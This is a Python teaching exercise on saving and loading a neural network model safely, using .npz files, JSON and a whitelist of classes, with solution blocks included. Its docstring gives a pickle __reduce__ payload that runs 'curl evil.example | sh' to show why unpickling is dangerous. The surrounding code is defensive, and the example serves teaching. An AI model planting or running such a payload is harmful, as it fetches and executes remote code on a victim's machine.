"""Exercise 17 - saving and loading a model, safely.

A trained model is worth keeping: its parameters took minutes (or weeks) to learn.
Two things to save:

    the parameters   get_parameters() -> [(weights, biases), ...], one pair per layer
                     with weights; set_parameters(...) puts them back (into a model of
                     the same shape: every shape is checked before anything is changed);
                     save_parameters(path) / load_parameters(path): the pairs as a .npz
    the whole model  save(path): the layers with their settings, the parameters, the loss
                     and the accuracy, so that Model.load(path) rebuilds a model that
                     predicts exactly what the saved one did

Why not pickle? The book saves models with pickle, and so does much of the Python world.
A pickle is not data: it is a small program for rebuilding objects, and one of its
instructions is "call this function with these arguments" (how __reduce__ works). So
unpickling a file runs whatever the file's author chose:

    class Payload:
        def __reduce__(self):
            return (os.system, ("curl evil.example | sh",))
    pickle.dumps(Payload())    # a "model file"; pickle.load(file) runs the command

There is no safe way to unpickle a file you did not write yourself. np.load(path,
allow_pickle=True) unpickles object arrays inside .npy and .npz files in just the same
way, which is why NumPy's default is allow_pickle=False.

So a model file here holds only data:

    model.npz (a zip of .npy files: a small header, then raw numbers)
        description   one string, JSON: {"format": "nn-kata-model", "version": 1,
                      "layers": [{"type": "Dense", "weight_regularizer_l2": 0.0005, ...},
                                 {"type": "ReLU"}, {"type": "Dropout", "rate": 0.1}, ...],
                      "loss": "CategoricalCrossEntropy",
                      "accuracy": {"type": "CategoricalAccuracy"}}
        weights_0, biases_0, weights_1, ...   float64 arrays, one pair per Dense

and loading reads it as data: np.load(path, allow_pickle=False) (an object array then
raises instead of running anything), json.loads (which only ever builds dicts, lists,
strings, numbers, booleans and None) and a fixed table of the classes a model may be
made of (a type name not in it is refused; nothing is imported or looked up by a name
from the file). Anything that is not such a model - a truncated file, some other .npz,
a newer version, a pickle - raises ValueError with one sentence saying what it is.
"""

from __future__ import annotations

import json
import math
import zipfile
import zlib
from pathlib import Path

import numpy as np

# Given: exercise 16's Model (mini-batches), and everything it is built from: the names
# Dense, Softmax, Adam, ... are exercise 16's, so that they can be imported from here too.
from kata.given.ex16_batches import *  # noqa: F403
from kata.given.ex16_batches import Model as _Model

from kata.given import ex16_batches as _given  # the same module, for the tables below

__all__ = ["FORMAT", "VERSION", "LAYERS", "LOSSES", "ACCURACIES", "read_arrays", "write_arrays",
           *_given.__all__]

FORMAT, VERSION = "nn-kata-model", 1

# The only classes a saved model may name, and the settings each one keeps. A file can
# choose among these; it can never name anything else.
LAYERS = {"Dense": _given.Dense, "ReLU": _given.ReLU, "LeakyReLU": _given.LeakyReLU,
          "Tanh": _given.Tanh, "Sigmoid": _given.Sigmoid, "Linear": _given.Linear,
          "Softmax": _given.Softmax, "Dropout": _given.Dropout}
SETTINGS = {"Dense": ("weight_regularizer_l1", "weight_regularizer_l2",
                      "bias_regularizer_l1", "bias_regularizer_l2"),
            "Dropout": ("rate",), "LeakyReLU": ("alpha",)}
LOSSES = {"CategoricalCrossEntropy": _given.CategoricalCrossEntropy,
          "BinaryCrossEntropy": _given.BinaryCrossEntropy,
          "MeanSquaredError": _given.MeanSquaredError,
          "MeanAbsoluteError": _given.MeanAbsoluteError}
ACCURACIES = {"CategoricalAccuracy": _given.CategoricalAccuracy,
              "BinaryAccuracy": _given.BinaryAccuracy,
              "RegressionAccuracy": _given.RegressionAccuracy}

# What np.load and reading its members raise on a file that is not a sound .npz.
_UNREADABLE = (OSError, ValueError, EOFError, KeyError, zipfile.BadZipFile, zlib.error)


class _NotAModel(Exception):
    """Why a file is not a saved model: turned into one ValueError sentence by load."""


def write_arrays(path: str | Path, arrays: dict[str, np.ndarray]) -> None:
    """`arrays` as an uncompressed .npz at exactly `path` (np.savez would add ".npz").

    >>> import tempfile, os
    >>> folder = tempfile.mkdtemp()
    >>> write_arrays(os.path.join(folder, "a.bin"), {"x": np.arange(3.0)})
    >>> read_arrays(os.path.join(folder, "a.bin"))
    {'x': array([0., 1., 2.])}
    """
    with open(path, "wb") as file:
        np.savez(file, **arrays)


def read_arrays(path: str | Path) -> dict[str, np.ndarray]:
    """Every array of the .npz at `path`, read as data only.

    np.load(path, allow_pickle=False): a pickle, or an object array inside the .npz,
    raises instead of being unpickled. Raises FileNotFoundError when there is no file
    and ValueError (one sentence) when it is not a readable .npz of plain arrays.
    """
    path = Path(path)
    if not path.is_file():
        raise FileNotFoundError(f"there is no file {path}")
    try:
        data = np.load(path, allow_pickle=False)
    except _UNREADABLE:
        raise ValueError(f"{path.name} is not a .npz of arrays (it may be truncated, a "
                         "pickle or another kind of file), so it was not loaded.") from None
    if not isinstance(data, np.lib.npyio.NpzFile):
        raise ValueError(f"{path.name} holds a single array, not a .npz of named arrays, "
                         "so it was not loaded.")
    try:
        with data:
            return {name: data[name] for name in data.files}
    except _UNREADABLE:
        raise ValueError(f"{path.name} is a damaged .npz or holds objects that only "
                         "unpickling could read, so it was not loaded.") from None


class Model(_Model):
    """Exercise 16's Model, which can also save itself and be loaded back.

    >>> import tempfile, os
    >>> rng = np.random.default_rng(0)
    >>> model = Model()
    >>> for layer in (Dense(2, 4, rng=rng), ReLU(), Dense(4, 3, rng=rng), Softmax()):
    ...     model.add(layer)
    >>> model.set(loss=CategoricalCrossEntropy(), accuracy=CategoricalAccuracy())
    >>> model.finalize()
    >>> path = os.path.join(tempfile.mkdtemp(), "model.npz")
    >>> model.save(path)
    >>> X = rng.standard_normal((5, 2))
    >>> bool(np.array_equal(Model.load(path).predict(X), model.predict(X)))
    True
    """

    # ------------------------------------------------------------ parameters

    def get_parameters(self) -> list[tuple[np.ndarray, np.ndarray]]:
        """[(weights, biases), ...]: copies, one pair per trainable layer, in order.

        Copies, so that training the model later does not change what was taken out.
        """
        ### BEGIN SOLUTION
        return [(layer.weights.copy(), layer.biases.copy()) for layer in self.trainable_layers]
        ### END SOLUTION

    def set_parameters(self, parameters: list[tuple[np.ndarray, np.ndarray]]) -> None:
        """Put (weights, biases) pairs into the trainable layers, as float64 copies.

        Everything is checked before anything changes. Raises ValueError when the number
        of pairs differs from the number of trainable layers (naming both), or when an
        array's shape differs from the layer's, naming the layer and both shapes:
            "model.layers[2] (Dense): weights of shape (64, 3) expected, got (64, 10)"
        """
        ### BEGIN SOLUTION
        parameters = list(parameters)
        if len(parameters) != len(self.trainable_layers):
            raise ValueError(f"set_parameters got {len(parameters)} (weights, biases) pairs, "
                             f"but the model has {len(self.trainable_layers)} layers with "
                             "weights")
        checked = []
        for layer, pair in zip(self.trainable_layers, parameters):
            where = f"model.layers[{self.layers.index(layer)}] ({type(layer).__name__})"
            if len(pair) != 2:
                raise ValueError(f"{where}: a (weights, biases) pair expected, "
                                 f"got {len(pair)} items")
            arrays = []
            for name, new, old in (("weights", pair[0], layer.weights),
                                   ("biases", pair[1], layer.biases)):
                new = np.array(new, dtype=np.float64)  # a copy: the caller's stays theirs
                if new.shape != old.shape:
                    raise ValueError(f"{where}: {name} of shape {old.shape} expected, "
                                     f"got {new.shape}")
                arrays.append(new)
            checked.append((layer, arrays))
        for layer, (weights, biases) in checked:  # only now, when all of them fit
            layer.weights, layer.biases = weights, biases
        ### END SOLUTION

    def save_parameters(self, path: str | Path) -> None:
        """get_parameters() as a .npz at `path`: arrays weights_0, biases_0, weights_1, ..."""
        ### BEGIN SOLUTION
        arrays = {}
        for index, (weights, biases) in enumerate(self.get_parameters()):
            arrays[f"weights_{index}"], arrays[f"biases_{index}"] = weights, biases
        write_arrays(path, arrays)
        ### END SOLUTION

    def load_parameters(self, path: str | Path) -> None:
        """set_parameters from a file save_parameters wrote (never unpickling anything).

        Raises ValueError when the file is not such a .npz, or its arrays do not fit.
        """
        ### BEGIN SOLUTION
        arrays = read_arrays(path)
        count = len(arrays) // 2
        names = {f"{kind}_{index}" for index in range(count) for kind in ("weights", "biases")}
        if set(arrays) != names:
            raise ValueError(f"{Path(path).name} does not hold parameters saved by "
                             "save_parameters (weights_0, biases_0, ...).")
        self.set_parameters([(arrays[f"weights_{i}"], arrays[f"biases_{i}"])
                             for i in range(count)])
        ### END SOLUTION

    # ------------------------------------------------------------ the whole model

    def save(self, path: str | Path) -> None:
        """The whole model as one .npz at `path`: a JSON description and the parameters.

        The description names each layer's type (a key of LAYERS) with its SETTINGS, the
        loss (a key of LOSSES) and the accuracy ({"type": ..., plus "precision" for a
        RegressionAccuracy}); None where none was set. Raises ValueError for a layer,
        loss or accuracy whose class is not in those tables.
        """
        ### BEGIN SOLUTION
        layers = []
        for layer in self.layers:
            name = _name_of(layer, LAYERS, "layer")
            layers.append({"type": name, **{key: float(getattr(layer, key))
                                             for key in SETTINGS.get(name, ())}})
        accuracy = None
        if self.accuracy is not None:
            accuracy = {"type": _name_of(self.accuracy, ACCURACIES, "accuracy")}
            if isinstance(self.accuracy, ACCURACIES["RegressionAccuracy"]):
                accuracy["precision"] = self.accuracy.precision
        description = {"format": FORMAT, "version": VERSION, "layers": layers,
                       "loss": None if self.loss is None else _name_of(self.loss, LOSSES, "loss"),
                       "accuracy": accuracy}
        arrays = {"description": np.array(json.dumps(description))}  # a str array, no pickle
        for index, (weights, biases) in enumerate(self.get_parameters()):
            arrays[f"weights_{index}"], arrays[f"biases_{index}"] = weights, biases
        write_arrays(path, arrays)
        ### END SOLUTION

    @classmethod
    def load(cls, path: str | Path) -> Model:
        """The model that save(path) wrote, rebuilt, finalized and ready to predict.

        It has no optimizer (set one to train it further). Raises ValueError, in one
        sentence, for any file that is not such a model; nothing in it is executed.
        """
        ### BEGIN SOLUTION
        arrays = read_arrays(path)
        try:
            return cls._from_arrays(arrays)
        except _NotAModel as reason:
            raise ValueError(f"{Path(path).name} is not a model saved by Model.save: "
                             f"{reason}.") from None
        ### END SOLUTION

    @classmethod
    def _from_arrays(cls, arrays: dict[str, np.ndarray]) -> Model:
        """Build the model the arrays describe; _NotAModel says what is wrong."""
        ### BEGIN SOLUTION
        description = arrays.pop("description", None)
        if description is None or description.dtype.kind != "U" or description.shape != ():
            raise _NotAModel("it has no description")
        try:
            description = json.loads(str(description))
        except ValueError:
            raise _NotAModel("its description is not JSON") from None
        if not isinstance(description, dict) or description.get("format") != FORMAT:
            raise _NotAModel(f"its description is not of the format {FORMAT!r}")
        if description.get("version") != VERSION:
            raise _NotAModel(f"it is version {description.get('version')!r} of the format, "
                             f"and this code reads version {VERSION}")
        layers = description.get("layers")
        if not isinstance(layers, list) or not layers:
            raise _NotAModel("it lists no layers")
        model = cls()
        parameters = []
        for index, entry in enumerate(layers):
            layer = _build_layer(entry, index, arrays, len(parameters))
            if hasattr(layer, "weights"):
                parameters.append((layer.weights, layer.biases))
            model.add(layer)
        if len(arrays) != 2 * len(parameters):
            raise _NotAModel(f"it holds {len(arrays)} arrays for {len(parameters)} dense layers")
        for (w1, _), (w2, _) in zip(parameters, parameters[1:]):
            if w1.shape[1] != w2.shape[0]:
                raise _NotAModel(f"a layer of {w1.shape[1]} outputs feeds one of "
                                 f"{w2.shape[0]} inputs")
        model.set(loss=_build(description.get("loss"), LOSSES, "loss"),
                  accuracy=_build_accuracy(description.get("accuracy")))
        model.finalize()
        return model
        ### END SOLUTION


# ---------------------------------------------------------------- given: small checks

def _name_of(thing: object, table: dict[str, type], what: str) -> str:
    """The table's name for thing's exact class, or ValueError: only those can be saved."""
    for name, kind in table.items():
        if type(thing) is kind:
            return name
    raise ValueError(f"a {what} of type {type(thing).__name__} cannot be saved: a model file "
                     f"may only hold {', '.join(table)}")


def _number(value: object, what: str, low: float = 0.0, high: float = math.inf) -> float:
    """value as a float in [low, high), or _NotAModel naming `what`."""
    if isinstance(value, bool) or not isinstance(value, (int, float)) \
            or not low <= value < high:
        raise _NotAModel(f"{what} is {value!r}")
    return float(value)


def _build(name: object, table: dict[str, type], what: str) -> object:
    """A new object of the class the table calls `name`; None stays None."""
    if name is None:
        return None
    if not isinstance(name, str) or name not in table:
        raise _NotAModel(f"its {what} {name!r} is not one of {', '.join(table)}")
    return table[name]()


def _build_accuracy(entry: object) -> object:
    if entry is None:
        return None
    if not isinstance(entry, dict):
        raise _NotAModel(f"its accuracy {entry!r} is not a description")
    accuracy = _build(entry.get("type"), ACCURACIES, "accuracy")
    regression = isinstance(accuracy, ACCURACIES["RegressionAccuracy"])
    if regression and entry.get("precision") is not None:
        accuracy.precision = _number(entry["precision"], "the accuracy's precision")
    return accuracy


def _build_layer(entry: object, index: int, arrays: dict[str, np.ndarray],
                 dense_index: int) -> object:
    """Layer `index` of the description; a Dense takes its sizes from its own arrays."""
    if not isinstance(entry, dict) or entry.get("type") not in LAYERS:
        raise _NotAModel(f"layer {index} is {entry!r}, not one of {', '.join(LAYERS)}")
    name = entry["type"]
    settings = {key: _number(entry.get(key), f"layer {index}'s {key}",
                             high=1.0 if key == "rate" else math.inf)
                for key in SETTINGS.get(name, ())}
    if name == "LeakyReLU":
        return LAYERS["LeakyReLU"](**settings)
    if name == "Dropout":
        return LAYERS["Dropout"](settings["rate"])
    if name != "Dense":
        return LAYERS[name]()
    weights = arrays.get(f"weights_{dense_index}")
    biases = arrays.get(f"biases_{dense_index}")
    if weights is None or biases is None:
        raise _NotAModel(f"the parameters of layer {index} are missing")
    if weights.ndim != 2 or biases.shape != (1, weights.shape[1]) \
            or weights.dtype.kind != "f" or biases.dtype.kind != "f":
        raise _NotAModel(f"layer {index}'s weights {weights.shape} and biases {biases.shape} "
                         "are not those of a dense layer")
    # The sizes come from the arrays themselves, so a description cannot ask for more
    # memory than the file holds; the small random draw is replaced at once.
    layer = LAYERS["Dense"](weights.shape[0], weights.shape[1], rng=np.random.default_rng(0),
                            **settings)
    layer.weights, layer.biases = weights.astype(np.float64), biases.astype(np.float64)
    return layer
